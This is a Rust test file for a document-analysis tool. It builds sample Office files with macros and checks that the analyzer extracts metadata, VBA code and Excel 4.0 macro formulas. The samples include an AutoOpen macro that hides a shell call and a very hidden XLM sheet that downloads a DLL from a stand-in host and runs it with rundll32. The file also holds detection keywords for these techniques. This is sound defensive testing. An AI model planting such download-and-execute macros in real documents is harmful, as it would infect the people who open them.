//! Office metadata, PowerPoint 97 VBA and Excel 4.0 (XLM) macro sheets on documents built
//! here (the same builders `documents_reference` cross-checks against olefile/olevba),
//! then every one of them truncated and corrupted: a section or an error, never a panic.

use nestbox_analyzers::documents::analyze;
use serde_json::{Value, json};

mod docbuild;

const MODULE: (&str, &str) = (
    "Module1",
    "Sub AutoOpen()\r\n  Shell \"cmd /c calc\", vbHide\r\nEnd Sub\r\n",
);

fn xls() -> Vec<u8> {
    let mut call = docbuild::ptg_str("urlmon");
    call.extend(docbuild::ptg_str("URLDownloadToFileA"));
    call.extend(docbuild::ptg_str("http://x.example.com/p.dll"));
    call.extend(docbuild::ptg_funcvar(3, 0x0096));
    let mut exec = docbuild::ptg_str("rundll32.exe p.dll,Start");
    exec.extend(docbuild::ptg_funcvar(1, 0x006e));
    docbuild::xls_with_xlm(
        "Macro1",
        true,
        &[call, exec, docbuild::ptg_funcvar(0, 0x0036)],
    )
}

fn meta_doc() -> Vec<u8> {
    use docbuild::Prop;
    let t = (1_709_210_096u64 + 11_644_473_600) * 10_000_000;
    let summary = docbuild::property_set_stream(
        docbuild::FMTID_SUMMARY,
        &[
            (1, Prop::I2(1252)),
            (4, Prop::Str("Alice")),
            (8, Prop::Str("Bob")),
            (10, Prop::Time(600_000_000)),
            (12, Prop::Time(t)),
            (18, Prop::Str("Microsoft Office Word")),
        ],
    );
    let docsum =
        docbuild::property_set_stream(docbuild::FMTID_DOCSUM, &[(15, Prop::Str("ACME Corp"))]);
    docbuild::with_metadata(docbuild::word97_with_macros(&[MODULE]), &summary, &docsum)
}

#[test]
fn ole_metadata() {
    let f = analyze(&meta_doc(), "a.doc");
    let m = &f.sections["office"]["Metadata"];
    assert_eq!(
        m["SummaryInformation"],
        json!({"codepage": "1252", "author": "Alice", "last_saved_by": "Bob",
               "total_edit_time": "60", "create_time": "2024-02-29 12:34:56",
               "creating_application": "Microsoft Office Word"})
    );
    assert_eq!(
        m["DocumentSummaryInformation"],
        json!({"company": "ACME Corp"})
    );
    assert_eq!(m["HasMacros"], "Yes");
}

#[test]
fn ooxml_metadata() {
    let core = r#"<cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:creator>Alice</dc:creator><cp:lastModifiedBy>Bob</cp:lastModifiedBy></cp:coreProperties>"#;
    let app = r#"<Properties><Application>Microsoft Office Word</Application><Company>ACME</Company></Properties>"#;
    let f = analyze(&docbuild::docx_with_props(core, app), "a.docx");
    let m = &f.sections["office"]["Metadata"];
    assert_eq!(
        m["SummaryInformation"],
        json!({"creator": "Alice", "lastModifiedBy": "Bob"})
    );
    assert_eq!(
        m["DocumentSummaryInformation"],
        json!({"Application": "Microsoft Office Word", "Company": "ACME"})
    );
}

#[test]
fn powerpoint97_vba() {
    let f = analyze(&docbuild::ppt97_with_macros(&[MODULE]), "a.ppt");
    let office = &f.sections["office"];
    assert_eq!(
        office["Metadata"]["DocumentType"],
        "PowerPoint Presentation"
    );
    let code = &office["Macro"]["Code"]["Macro1"][0];
    assert_eq!(code[0], "Module1.bas");
    assert!(code[1].as_str().unwrap().contains("Shell \"cmd /c calc\""));
    let auto: Vec<&Value> = office["Macro"]["Analysis"]["AutoExec"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| &p[0])
        .collect();
    assert_eq!(auto, [&json!("AutoOpen")]);
}

#[test]
fn excel4_macro_sheet() {
    let f = analyze(&xls(), "a.xls");
    let office = &f.sections["office"];
    let x = &office["XLM"];
    assert_eq!(
        x["Sheets"],
        json!([
            {"name": "Sheet1", "type": "worksheet or dialog sheet", "visibility": "visible"},
            {"name": "Macro1", "type": "Excel 4.0 macro sheet", "visibility": "very hidden"},
        ])
    );
    assert_eq!(x["Formulas"][0]["cell"], "R1C1");
    assert_eq!(x["Formulas"][0]["functions"], json!(["CALL"]));
    assert_eq!(x["Formulas"][1]["functions"], json!(["EXEC"]));
    assert_eq!(x["Formulas"][2]["functions"], json!(["HALT"]));
    let sus: Vec<&str> = x["Suspicious"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p[0].as_str().unwrap())
        .collect();
    for k in ["CALL", "EXEC", "urldownloadtofile", "rundll32", "http://"] {
        assert!(sus.contains(&k), "{k} in {sus:?}");
    }
    // The olevba-style listing is scanned like VBA (and CAPE shows it as a macro).
    assert_eq!(office["Macro"]["Code"]["Macro1"][0][0], "xlm_macro.txt");
    assert_eq!(office["Metadata"]["HasMacros"], "Yes");
    assert!(
        f.iocs
            .lists()
            .iter()
            .any(|(_, l)| l.iter().any(|v| v.contains("x.example.com")))
    );
}

/// Cuts at many lengths and single-byte corruptions of every sample: each ends in an
/// `office` section (possibly with errors), in bounded time.
#[test]
fn damaged_samples_end_in_a_report() {
    let samples = [
        ("a.doc", meta_doc()),
        ("a.ppt", docbuild::ppt97_with_macros(&[MODULE])),
        ("a.xls", xls()),
    ];
    for (name, data) in &samples {
        let step = (data.len() / 200).max(1);
        for cut in (0..data.len()).step_by(step) {
            let _ = analyze(&data[..cut], name);
        }
        for i in (0..data.len()).step_by(step.max(3)) {
            for v in [0x00, 0x7f, 0xff] {
                let mut bad = data.clone();
                bad[i] = v;
                let f = analyze(&bad, name);
                if data.len() > 512 && i >= 512 {
                    // Past the compound-file header the file stays OLE: a section.
                    assert!(f.sections.contains_key("office") || !f.errors.is_empty());
                }
            }
        }
    }
}
